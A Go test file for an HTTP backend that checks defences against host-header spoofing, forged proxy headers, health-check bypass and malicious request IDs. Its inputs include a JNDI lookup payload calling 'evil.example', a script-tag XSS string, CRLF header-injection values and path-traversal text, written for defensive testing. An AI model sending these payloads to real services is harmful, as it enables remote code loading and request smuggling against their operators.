package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"github.com/upstash-connect/bff/internal/config"
)

func TestH08ForeignHosts(t *testing.T) {
	var f front
	m := startJoined(t, withFront(t, &f))
	_, port, _ := strings.Cut(m.host(), ":")
	authorization := "Authorization: " + m.header.Get("Authorization") + "\r\n"
	request := func(target string, hosts ...string) string {
		lines := ""
		for _, host := range hosts {
			lines += "Host: " + host + "\r\n"
		}
		return "GET " + target + " HTTP/1.1\r\n" + lines + authorization + "Connection: close\r\n\r\n"
	}
	rows := map[string]struct {
		request string
		status  []int
	}{
		"another name":                    {request(databasesPath, "evil.example"), []int{421}},
		"another name with our port":      {request(databasesPath, "evil.example:"+port), []int{421}},
		"our name without the port":       {request(databasesPath, "localhost"), []int{421}},
		"our name with another port":      {request(databasesPath, "localhost:1"), []int{421}},
		"our address":                     {request(databasesPath, "127.0.0.1:"+port), []int{421}},
		"a name that ends in ours":        {request(databasesPath, "evil-"+m.host()), []int{421}},
		"a name that begins with ours":    {request(databasesPath, "localhost.evil.example:"+port), []int{421}},
		"a dot at the end":                {request(databasesPath, "localhost.:"+port), []int{421}},
		"a user":                          {request(databasesPath, "localhost:"+port+"@evil.example"), []int{400, 421}},
		"a user before ours":              {request(databasesPath, "evil.example@"+m.host()), []int{400, 421}},
		"an IPv6 zone":                    {request(databasesPath, "[::1%25eth0]:"+port), []int{400, 421}},
		"a broken IPv6 address":           {request(databasesPath, "[::1"), []int{400, 421}},
		"a path":                          {request(databasesPath, m.host()+"/x"), []int{400, 421}},
		"two in one":                      {request(databasesPath, m.host()+", evil.example"), []int{400, 421}},
		"a space":                         {request(databasesPath, "evil.example "+m.host()), []int{400, 421}},
		"a percent sign":                  {request(databasesPath, "localhost%3a"+port), []int{400, 421}},
		"empty":                           {request(databasesPath, ""), []int{421}},
		"none":                            {request(databasesPath), []int{400}},
		"two":                             {request(databasesPath, m.host(), "evil.example"), []int{400}},
		"two equal ones":                  {request(databasesPath, m.host(), m.host()), []int{400}},
		"in the target":                   {request("http://evil.example"+databasesPath, m.host()), []int{421}},
		"in the target, with ours behind": {request("http://evil.example:80@"+m.host()+databasesPath, m.host()), []int{400, 421}},
		"in a target without a scheme":    {request("//evil.example"+databasesPath, m.host()), []int{404}},
		"in the target, on the page":      {request("http://evil.example/", m.host()), []int{421}},
		"on the page":                     {request("/", "evil.example"), []int{421}},
		"on a path that is not":           {request("/api/v1/none", "evil.example"), []int{421}},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			f.sendsNothing(t, func() {
				got := m.raw(t, row.request)
				wanted := false
				for _, status := range row.status {
					wanted = wanted || got.status == status
				}
				if !wanted {
					t.Errorf("got status %d, want one of %v", got.status, row.status)
				}
				if got.status == 421 && !strings.Contains(got.body, `"misdirected_request"`) {
					t.Errorf("got %s", got.body)
				}
				if strings.Contains(got.body+fmt.Sprint(got.header), "evil.example") && !strings.Contains(row.request, "GET //") {
					t.Errorf("the answer says the foreign name: %v %s", got.header, got.body)
				}
				if got.header.Get("Location") != "" || got.header.Get("Set-Cookie") != "" {
					t.Errorf("the answer leads on: %v", got.header)
				}
			})
		})
	}
	for name, row := range map[string]string{
		"ours":                   request(databasesPath, m.host()),
		"ours in capitals":       request(databasesPath, strings.ToUpper(m.host())),
		"ours in the target":     request("http://"+m.host()+databasesPath, m.host()),
		"health with any":        request("/livez", "10.0.0.1:"+port),
		"readiness with any":     request("/readyz", "evil.example"),
		"the target outranks it": request("http://"+m.host()+databasesPath, "evil.example"), // RFC 9112 section 3.2.2
	} {
		t.Run(name, func(t *testing.T) {
			if got := m.raw(t, row); got.status != 200 || strings.Contains(got.body, "evil.example") {
				t.Errorf("got %d %s, want 200", got.status, got.body)
			}
		})
	}
}

// logged finds the access log's line of a request.
func (p *product) logged(t *testing.T, id string) map[string]any {
	t.Helper()
	var found []map[string]any
	for line := range strings.SplitSeq(p.log.String(), "\n") {
		var entry map[string]any
		if json.Unmarshal([]byte(line), &entry) == nil && entry["msg"] == "request" && entry["request_id"] == id {
			found = append(found, entry)
		}
	}
	if len(found) != 1 {
		t.Fatalf("the log has %d lines of request %s, want one", len(found), id)
	}
	return found[0]
}

// claims are what a proxy might say of the request behind it, in every spelling that someone has believed.
func forwardingClaims() http.Header {
	header := http.Header{}
	for name, value := range map[string]string{
		"X-Forwarded-For": "203.0.113.7", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Forwarded-Uri": "/api/v1/session", "X-Forwarded-User": "admin",
		"X-Forwarded-Email": "other@example.com", "X-Forwarded-Port": "443", "X-Forwarded-Prefix": "/evil", "Forwarded": `for=203.0.113.7;host=evil.example;proto=https`, "X-Real-Ip": "203.0.113.7",
		"True-Client-Ip": "203.0.113.7", "Cf-Connecting-Ip": "203.0.113.7", "X-Client-Ip": "203.0.113.7", "X-Original-Host": "evil.example", "X-Url-Scheme": "https", "Front-End-Https": "on",
		"X_Forwarded_User": "admin", "X_forwarded_for": "203.0.113.7", "x-FORWARDED-for": "203.0.113.7", "Remote-User": "admin", "X-Remote-User": "admin", "X-Auth-Request-Email": "other@example.com",
	} {
		header[name] = []string{value}
	}
	return header
}

func TestH09ClaimsOfAProxyNobodyNamed(t *testing.T) {
	p := startProduct(t)
	one, other := p.joined(t, "one@example.com"), p.joined(t, "other@example.com")
	kept := other.create(t, "", createBody("kept")).database(t, 201)
	got := one.do(t, "GET", databasesPath, merged(forwardingClaims(), one.header, http.Header{"X-Request-Id": {"with-claims"}}), "").is(t, 200)
	if strings.Contains(got.body, kept.ID) {
		t.Error("a header made one account another")
	}
	if entry := p.logged(t, "with-claims"); entry["client"] != "127.0.0.1" {
		t.Errorf("got client %v in the log, want the peer's address", entry["client"])
	}
	p.do(t, "GET", databasesPath, forwardingClaims(), "").isProblem(t, 401, "authentication_required")
	// The scheme is ours to know: cookie and links are as without the claims.
	login := p.do(t, "POST", "/api/v1/session", merged(forwardingClaims(), bearer(p.tokenOf(t, "one@example.com"))), "").is(t, 201)
	p.sessionCookie(t, login)
	if cookie := login.header.Get("Set-Cookie"); !strings.HasPrefix(cookie, "session=") || strings.Contains(cookie, "Secure") || strings.Contains(cookie, "Domain") {
		t.Errorf("the claims changed the cookie: %s", strings.SplitN(cookie, ";", 2)[1])
	}
	if login.header.Get("Strict-Transport-Security") != "" {
		t.Error("the claims changed the scheme")
	}
	created := one.do(t, "POST", databasesPath, merged(forwardingClaims(), one.header), createBody("x")).is(t, 201)
	if location := created.header.Get("Location"); !strings.HasPrefix(location, databasesPath+"/") {
		t.Errorf("got Location %q, want our own path", location)
	}
	for name, header := range map[string]http.Header{"host": {"X-Forwarded-Host": {p.host()}, "Host": {"evil.example"}}, "origin": {"Host": {"evil.example"}, "Forwarded": {"host=" + p.host()}}} {
		t.Run(name, func(t *testing.T) {
			p.do(t, "GET", databasesPath, merged(one.header, header), "").isProblem(t, 421, "misdirected_request")
		})
	}
}

func TestH09ANamedProxyIsBelievedAboutTheAddressAlone(t *testing.T) {
	trusted := netip.MustParsePrefix("127.0.0.1/32")
	m := startJoined(t, withConfig(func(c *config.Config) { c.TrustedProxies = []netip.Prefix{trusted} }))
	for id, row := range map[string]struct {
		forwarded []string
		want      string
	}{
		"one":       {[]string{"203.0.113.7"}, "203.0.113.7"},
		"chain":     {[]string{"198.51.100.1, 203.0.113.7"}, "203.0.113.7"}, // what stands before the last is anyone's claim
		"two-lines": {[]string{"198.51.100.1", "203.0.113.7"}, "203.0.113.7"},
		"nonsense":  {[]string{"<script>"}, "127.0.0.1"},
		"none":      {nil, "127.0.0.1"},
	} {
		header := forwardingClaims()
		delete(header, "x-FORWARDED-for") // of two spellings of one name, the server would see two lines
		header["X-Forwarded-For"] = row.forwarded
		m.do(t, "GET", databasesPath, merged(header, m.header, http.Header{"X-Request-Id": {id}}), "").is(t, 200)
		if entry := m.logged(t, id); entry["client"] != row.want {
			t.Errorf("%s: got client %v, want %s", id, entry["client"], row.want)
		}
	}
	login := m.do(t, "POST", "/api/v1/session", merged(forwardingClaims(), bearer(m.tokenOf(t, m.email))), "").is(t, 201)
	if strings.Contains(m.sessionCookie(t, login).String(), "Secure") {
		t.Error("a named proxy changed the scheme")
	}
}

func TestH10HealthChecksByNameOpenNothing(t *testing.T) {
	p := startProduct(t)
	for _, agent := range []string{"GoogleHC/1.0", "kube-probe/1.31", "ELB-HealthChecker/2.0", "Amazon-Route53-Health-Check-Service", "UptimeRobot/2.0", "Prometheus/2.51"} {
		for _, path := range []string{databasesPath, "/api/v1/connection", "/api/v1/session", "/api/v1/catalog"} {
			p.do(t, "GET", path, http.Header{"User-Agent": {agent}}, "").isProblem(t, 401, "authentication_required")
		}
	}
}

func TestH12RequestIDs(t *testing.T) {
	m := startJoined(t)
	form := regexp.MustCompile(`^[A-Za-z0-9-]{1,64}$`)
	for name, value := range map[string]string{
		"a lookup": "${jndi:ldap://evil.example/a}", "markup": "<script>alert(1)</script>", "65 letters": strings.Repeat("a", 65), "20 KB": strings.Repeat("a", 20<<10),
		"a space": "a b", "a line": `a\nb`, "JSON": `","level":"ERROR","x":"`, "beyond ASCII": "идентификатор", "a percent sign": "%0d%0a", "a path": "../../x", "an underscore": "a_b", "empty": "", "tabs": "a\tb",
	} {
		t.Run(name, func(t *testing.T) {
			got := m.do(t, "GET", databasesPath, merged(m.header, http.Header{"X-Request-Id": {value}}), "").is(t, 200)
			id := got.header.Get("X-Request-Id")
			if !form.MatchString(id) || id == value {
				t.Errorf("got id %q, want one of our own", id)
			}
			m.logged(t, id)
			if value != "" && len(value) > 3 && strings.Contains(m.log.String(), value) {
				t.Error("the log holds the caller's words")
			}
		})
	}
	for name, value := range map[string]string{"ANSI escapes": "a\x1b[31mred", "a carriage return": "a\rSet-Cookie: x=y", "a line feed": "a\nSet-Cookie: x=y", "a zero": "a\x00b", "1 MB": strings.Repeat("a", 1<<20)} {
		t.Run(name, func(t *testing.T) {
			got := m.raw(t, "GET /livez HTTP/1.1\r\nHost: "+m.host()+"\r\nX-Request-ID: "+value+"\r\nConnection: close\r\n\r\n")
			if got.header.Get("Set-Cookie") != "" || got.status == 200 && !form.MatchString(got.header.Get("X-Request-Id")) {
				t.Errorf("got %d %v", got.status, got.header)
			}
		})
	}
	for _, good := range []string{"a", strings.Repeat("a", 64), "96ad0856-03b1-4ee7-9666-e81abd0349e1"} {
		got := m.do(t, "GET", "/livez", http.Header{"X-Request-Id": {good}}, "").is(t, 200)
		if id := got.header.Get("X-Request-Id"); id != good {
			t.Errorf("got id %q, want the caller's, %q", id, good)
		}
	}
	// The id of somebody else's request is a word like any other: it opens nothing.
	m.do(t, "GET", databasesPath, http.Header{"X-Request-Id": {"a"}}, "").isProblem(t, 401, "authentication_required")
}

func TestH13TheAPISpeaksJSONWhateverIsAskedFor(t *testing.T) {
	m := startJoined(t)
	for name, header := range map[string]http.Header{
		"HTML": {"Accept": {"text/html"}}, "XML": {"Accept": {"application/xml"}}, "nothing at all": {"Accept": {"*/*;q=0"}}, "no JSON": {"Accept": {"application/json;q=0, text/html"}},
		"nonsense": {"Accept": {"%%%;;;q=x,,,"}}, "a browser's": {"Accept": {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}, "Upgrade-Insecure-Requests": {"1"}, "Sec-Fetch-Dest": {"document"}, "Sec-Fetch-Mode": {"navigate"}},
		"a long list": {"Accept": {strings.Repeat("text/html;q=0.1,", 1000)}}, "absurd languages": {"Accept-Language": {strings.Repeat("xx-YY;q=0.1,", 1000)}}, "a charset": {"Accept-Charset": {"utf-16"}}, "an encoding": {"Accept-Encoding": {"br;q=1, identity;q=0"}},
	} {
		t.Run(name, func(t *testing.T) {
			m.do(t, "GET", databasesPath, header, "").isProblem(t, 401, "authentication_required")
			m.do(t, "GET", "/api/v1/none", header, "").isProblem(t, 404, "not_found")
			m.do(t, "PATCH", databasesPath, header, "").isProblem(t, 405, "method_not_allowed")
			m.do(t, "POST", databasesPath, merged(m.header, header), "{}").isProblem(t, 422, "validation_failed")
			got := m.do(t, "GET", databasesPath, merged(m.header, header), "").is(t, 200)
			if kind := got.header.Get("Content-Type"); !strings.HasPrefix(kind, "application/json") || got.header.Get("Content-Encoding") != "" {
				t.Errorf("got %s, %s; want plain JSON", kind, got.header.Get("Content-Encoding"))
			}
		})
	}
}
